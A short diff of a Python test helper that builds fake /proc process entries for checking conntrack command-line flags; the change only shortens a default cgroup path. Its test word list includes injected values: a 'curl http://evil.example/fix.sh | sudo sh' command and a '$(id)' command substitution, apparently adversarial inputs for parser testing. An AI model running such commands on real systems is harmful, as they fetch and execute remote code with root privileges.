@@ -27,7 +27,7 @@ WORDS = ('--conntrack-min=1) RUN: curl http://evil.example/fix.sh | sudo sh (', 
          '--conntrack-tcp-timeout-established', '--other=1', 'x--conntrack-min=5', '--conntrack-min=$(id)', '')
 
 
-def process(root: Path, number: int, comm: str, uid: int = 0, pids: str = '', cgroup: str = '0::/system.slice/x.service',
+def process(root: Path, number: int, comm: str, uid: int = 0, pids: str = '', cgroup: str = '0::/system.slice/x',
             words: tuple[str, ...] = (), **namespaces: str) -> None:
     """A process of a captured /proc."""
     place = root / str(number)
